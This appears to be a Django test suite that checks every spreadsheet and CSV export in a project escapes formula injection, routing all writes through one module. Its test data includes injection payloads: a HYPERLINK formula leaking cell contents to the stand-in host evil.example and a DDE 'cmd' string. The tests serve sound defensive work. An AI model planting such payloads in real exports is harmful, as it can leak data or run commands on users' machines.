"""Issue 13 High 3: one export writer for the whole project, and no export ever carries a live formula.

- no module but `core/exports.py` builds a workbook or CSV, or answers with a spreadsheet itself;
- every export (each list page's ?export=xlsx/csv, and every other download found in the URL
  configuration) is fetched from a world whose firm and grid names are hostile, and every cell
  of every answer is checked.
"""

import csv
import io
import re
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest
from django.urls import NoReverseMatch, resolve, reverse

from chrysalis.core.exports import attachment, rows_to_csv, rows_to_xlsx
from chrysalis.core.testing.matrix import all_url_names
from chrysalis.core.views import ObjectListView

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# writing or answering with a spreadsheet anywhere else than core/exports.py
FORBIDDEN = re.compile(
    r"\bWorkbook\(|xlsxwriter|csv\.writer|csv\.DictWriter|spreadsheetml|text/csv|\.to_excel\(|\.to_csv\("
)


def test_only_core_exports_writes_spreadsheets():
    offenders = []
    for path in sorted((ROOT / "chrysalis").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if (
            rel == "chrysalis/core/exports.py"
            or "/tests/" in rel
            or "/testing/" in rel
            or "/criteria/" in rel
        ):
            continue  # the criteria library writes its own snapshot tables (no Django, no downloads)
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if FORBIDDEN.search(line):
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert not offenders, "spreadsheets written outside core.exports:\n" + "\n".join(offenders)


def test_writer_neutralises_every_hostile_cell():
    rows = [[h, h, 1, Decimal("-1.5")] for h in HOSTILE]
    wb = openpyxl.load_workbook(io.BytesIO(rows_to_xlsx("=sheet", HOSTILE, rows)))
    _check_xlsx(wb)
    _check_csv(rows_to_csv(HOSTILE, rows))
    assert attachment(b"x", fmt="csv", filename="a")["Content-Disposition"] == 'attachment; filename="a.csv"'


def _safe_text(value: str) -> bool:
    if not value.startswith(DANGEROUS):
        return True
    try:  # a typed number written as text in a CSV ("-5") is no formula
        Decimal(value)
        return True
    except InvalidOperation:
        return False


def _check_xlsx(wb) -> list[str]:
    bad, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and not _safe_text(cell.value)):
                    bad.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert not bad, bad
    return texts


def _check_csv(content: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    bad = [c for c in cells if not _safe_text(c)]
    assert not bad, bad
    return cells


def _export_urls(world) -> list[str]:
    """Every export the URL configuration offers without arguments, plus those under an object."""
    urls = []
    for name in sorted(all_url_names()):
        try:
            path = reverse(name)
        except NoReverseMatch:
            continue
        view_class = getattr(resolve(path).func, "view_class", None)
        if view_class is not None and issubclass(view_class, ObjectListView):
            urls += [f"{path}?export=xlsx", f"{path}?export=csv"]
        elif "export" in name or path.endswith(".xlsx"):
            urls.append(path)
    ent = world.extra["ent_a1"]
    urls += [
        reverse("screening:run_detail", args=[world.extra["run"].pk]) + "?export=xlsx",
        reverse("cultivation:assessment", args=[ent.pk]) + "?format=xlsx&year=2026",
        reverse("events:dashboard") + "?export=xlsx",
        reverse("villages:dashboard") + "?export=xlsx",
        reverse("villages:dashboard") + "?export=csv",
    ]
    return urls


@pytest.mark.django_db
def test_every_export_survives_hostile_names(client, world):
    from chrysalis.accounts.models import OrgUnit
    from chrysalis.enterprises.models import Enterprise
    from chrysalis.screening.models import ScreeningResult

    firms = [world.extra[k] for k in ("ent_a1", "ent_a2", "ent_b1")]
    for firm, name in zip(firms, HOSTILE, strict=False):
        Enterprise.objects.filter(pk=firm.pk).update(name=name)
    OrgUnit.objects.filter(pk=world.grid_a1.pk).update(name=HOSTILE[3])
    ScreeningResult.objects.create(
        run=world.extra["run"],
        enterprise=firms[0],
        rule_set="zjtx-2026",
        tier="zjtx",
        verdict="eligible",
        lacks="=1+1",
    )

    personas = [p for p in world.users if world.users[p] is not None]
    reached, texts = [], []
    for url in _export_urls(world):
        for persona in ["district_admin", *personas]:
            client.force_login(world.users[persona])
            response = client.get(url)
            if response.status_code == 200 and "attachment" in response.get("Content-Disposition", ""):
                break
        else:
            continue  # nobody in the world may download it (or it needs data the world lacks)
        reached.append(url)
        if response["Content-Disposition"].endswith('.csv"'):
            texts += _check_csv(response.content)
        elif response["Content-Disposition"].endswith('.xlsx"'):
            texts += _check_xlsx(openpyxl.load_workbook(io.BytesIO(response.content)))
    # the guard went through the hostile names, in the screening export among others
    assert any(u.startswith(reverse("screening:run_detail", args=[world.extra["run"].pk])) for u in reached)
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[3] in texts and "'=1+1" in texts
    assert len(reached) >= 20, reached
